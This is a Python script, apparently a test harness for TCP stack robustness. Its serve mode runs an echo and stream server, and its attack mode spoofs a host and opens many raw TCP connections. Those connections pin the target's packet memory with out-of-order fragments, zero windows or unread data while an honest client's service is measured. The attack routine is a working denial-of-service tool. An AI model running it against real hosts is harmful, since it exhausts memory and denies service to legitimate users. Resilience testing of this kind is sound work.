# SPDX-License-Identifier: BSD-2-Clause
"""A remote host occupies packet memory by many connections while an honest client works.

    tcp_memory.py serve ADDRESS PORT    after 'e' it echoes, after 's' it sends STREAM bytes, after any other byte
    nothing
    tcp_memory.py attack DEVICE GHOST GHOST_MAC SUBJECT SUBJECT_MAC KIND CONNS

KIND  tiny: 16 pieces of a byte beyond holes on each connection; full: 16 segments beyond a hole;
      unsent: segments of 48 bytes, a download asked for, a window of zero; unread: bytes that the server does not
      read"""
import os
import resource
import select
import socket
import sys
import time

PORT = 7000
STREAM = 262144
PER = 16


def serve(addr, port):
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    listener = socket.create_server((addr, port), family=socket.AF_INET6 if ":" in addr else socket.AF_INET,
                                    backlog=4096)
    listener.setblocking(False)
    poll = select.epoll()
    poll.register(listener, select.EPOLLIN)
    conns, what, left = {}, {}, {}
    block = bytes(65536)

    def write(fd):
        try:
            while left.get(fd):
                left[fd] -= conns[fd].send(block[:left[fd]])
        except BlockingIOError:
            return
        poll.modify(fd, select.EPOLLIN)

    def read(fd):
        data = conns[fd].recv(65536)
        if not data:
            raise ConnectionError
        if fd not in what:
            what[fd], data = data[:1], data[1:]
            if what[fd] == b"s":
                left[fd] = STREAM
                poll.modify(fd, select.EPOLLIN | select.EPOLLOUT)
            elif what[fd] == b"u":  # is not read any more
                poll.modify(fd, 0)
        if what[fd] == b"e" and data:
            conns[fd].sendall(data)

    while True:
        for fd, events in poll.poll():
            if fd == listener.fileno():
                try:
                    while True:
                        s, _ = listener.accept()
                        s.setblocking(False)
                        conns[s.fileno()] = s
                        poll.register(s, select.EPOLLIN)
                except BlockingIOError:
                    continue
            try:
                if events & select.EPOLLOUT:
                    write(fd)
                if events & ~select.EPOLLOUT:
                    read(fd)
            except BlockingIOError:
                pass
            except OSError:
                poll.unregister(fd)
                conns.pop(fd).close()
                what.pop(fd, None)
                left.pop(fd, None)


def attack(device, ghost, ghost_mac, subject, subject_mac, kind, count):
    from segpeer import Net
    from tcplib import take, tcp, is6

    net = Net(device, ghost_mac, ghost, subject_mac, subject)
    small = kind == "unsent"
    win = 40 if small else 257

    def client():
        s = tcp(six=is6(subject))
        s.settimeout(20)
        s.connect((subject, PORT))
        return s

    def is_answered(s, data):
        s.sendall(data)
        return take(s, len(data)) == data

    def download():
        s = client()
        s.sendall(b"s")
        whole = len(take(s, STREAM)) == STREAM
        s.close()
        return whole

    def honest():
        s = client()
        s.sendall(b"e")
        good = is_answered(s, b"hello")
        s.close()
        return good

    old = client()
    old.sendall(b"e")
    print(kind, "before:", is_answered(old, b"old"), honest(), download(), flush=True)
    flows, base, began = [], 10000 + os.getpid() % 20 * 2000, time.monotonic()
    for i in range(count):
        f = net.flow(PORT, base + i)
        f.put("S 0:0(0) win 32792 <mss %d,sackOK,wscale 7>" % (48 if small else 1460))
        flows.append(f)
        if i % 50 != 49 and i != count - 1:
            continue
        group = flows[-50:]
        end = time.monotonic() + 2
        while time.monotonic() < end and not all(x.queue for x in group):
            net.receive(0.02)
        for x in group:
            if x.queue:
                x.irs = x.queue[0].seq
                x.queue.clear()
                x.put(f". 1:1(0) ack 1 win {win}")
                x.put(f"P. 1:2(1) ack 1 win {win}", b"s" if small else b"u" if kind == "unread" else b"h")
        net.receive(0)
    flows = [x for x in flows if x.irs is not None]
    net.receive(0.2)
    for i, x in enumerate(flows):
        x.queue.clear()
        if small:
            x.put(". 2:2(0) ack 1 win 0")
        for k in range(0 if small else PER):
            at, n = (4 + 2 * k, 1) if kind == "tiny" else (2 + 1000 * k + (kind == "full"), 1000)
            net.send(net.frame(x.seg(f". {at}:{at + n}({n}) ack 1", b"x" * n)))
        net.receive(0)
        if i % 100 == 99:  # a queue on the way may be full
            time.sleep(0.01)
    print("connected:", len(flows) > count * 9 // 10, flush=True)
    print(f"{kind}: {len(flows)} connections in {time.monotonic() - began:.1f} s", file=sys.stderr)
    slowest = 0
    for _ in range(3):
        then = time.monotonic()
        print("beside:", is_answered(old, b"again"), honest(), download(), flush=True)
        slowest = max(slowest, time.monotonic() - then)
        net.receive(0)
        time.sleep(0.1)
    print(f"{kind}: the honest three took {slowest * 1000:.0f} ms at most", file=sys.stderr)
    for x in flows:
        x.put("R. 2:2(0) ack 1")
    old.close()


if sys.argv[1] == "serve":
    serve(sys.argv[2], int(sys.argv[3]))
else:
    attack(*sys.argv[2:8], int(sys.argv[8]))
